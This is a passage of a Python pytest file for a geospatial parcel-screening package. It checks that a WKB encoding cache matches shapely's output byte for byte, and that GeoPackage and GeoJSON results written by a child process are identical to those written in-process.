        poly, MultiPolygon([box(0, 0, 1, 1), box(2, 2, 3, 3)]), Point(1.5, -2.25), LineString([(0, 0), (1, 1)]),
        Point(1, 2, 3), Polygon([(0, 0, 1), (1, 0, 2), (1, 1, 3)]), LineString([(0, 0, 0), (1, 1, 1)]),
        Polygon(), Point(), LineString(), shapely.MultiPoint([(0, 0), (1, 1)]),
        shapely.LinearRing([(0, 0), (1, 0), (1, 1)]), shapely.GeometryCollection([Point(0, 0)]), None,
        shapely.from_wkb(shapely.to_wkb(box(5, 5, 6, 7), byte_order=0)),  # read big-endian: written as shapely does
    ], dtype=object)


@pytest.mark.parametrize("promote", [False, True])
def test_each_geometry_object_is_encoded_once_and_as_shapely_encodes_it(promote):
    # results.gpkg's findings layers and a screening's derived layers hold the same geometry objects: the set's
    # WkbCache encodes each once, and every array it gives is, byte for byte, shapely.to_wkb of that array
    # (of its one-part multi-geometries with promote: the 9-byte header put before a 2D little-endian single)
    zoo = _geometry_zoo()
    rng = np.random.default_rng(3)
    cache = writers.WkbCache()
    for trial in range(6):
        arr = zoo[rng.integers(0, len(zoo), 25)]  # repeats, and objects seen by an earlier array
        p = promote if trial % 2 == 0 else not promote
        got = cache.encode(arr, promote=p)
        want = shapely.to_wkb(writers._promoted(arr) if p else arr, hex=False)
        assert [None if b is None else bytes(b) for b in got] == [None if b is None else bytes(b) for b in want]
    assert cache.encoded <= len(zoo)  # each distinct object once, whatever the arrays and the promotion
    multi = cache.encode(zoo[:1], promote=True)[0]
    assert shapely.get_type_id(shapely.from_wkb(multi)) == 6 and len(multi) == len(cache.encode(zoo[:1])[0]) + 9
    cache.clear()
    assert cache.encoded == 0


def test_a_county_set_written_by_the_child_has_the_geometry_written_here(tmp_path, monkeypatch):
    # a screening whose findings and derived layers (sfha_overlaps, floodway_overlaps) share their geometry
    # objects: with the GIS child (the WkbCache) every layer's geometry blobs are those written in this
    # process (shapely.to_wkb per layer), read back from the GeoPackage as bytes
    import sqlite3

    from geoconstraints import output, sample_path
    from geoconstraints.commands import screen_parcels

    res = screen_parcels(load_layers(sample_path("vestal_sample.gpkg")), load_rulebook("vestal"))
    shared = {id(g) for g in res.findings.geometry.values}
    assert res.derived and all(id(g) in shared for d in res.derived.values() for g in d.geometry.values)
    monkeypatch.setattr(output, "GIS_CHILD_MIN_ROWS", 10**12)
    here = write_result(res, tmp_path / "here", outputs="gpkg,geojson")
    monkeypatch.setattr(output, "GIS_CHILD_MIN_ROWS", 0)
    encoded = []
    real = writers.WkbCache.encode
    monkeypatch.setattr(writers.WkbCache, "encode",
                        lambda self, v, promote=False: encoded.append(len(v)) or real(self, v, promote))
    there = write_result(res, tmp_path / "child", outputs="gpkg,geojson")
    assert sum(encoded) >= 2 * len(res.findings)  # the cache served findings.geojson and the GeoPackage's layers

    def blobs(path):
        with sqlite3.connect(path) as con:
            names = [r[0] for r in con.execute("SELECT table_name FROM gpkg_geometry_columns ORDER BY table_name")]
            return {n: con.execute(f'SELECT fid, geom FROM "{n}" ORDER BY fid').fetchall() for n in names}

    a, b = blobs(there["results.gpkg"]), blobs(here["results.gpkg"])
    assert set(a) == set(b) and {"sfha_overlaps", "floodway_overlaps", "findings_polygon"} <= set(a)
    for name in a:
        assert a[name] == b[name], name
    assert there["findings.geojson"].read_bytes() == here["findings.geojson"].read_bytes()
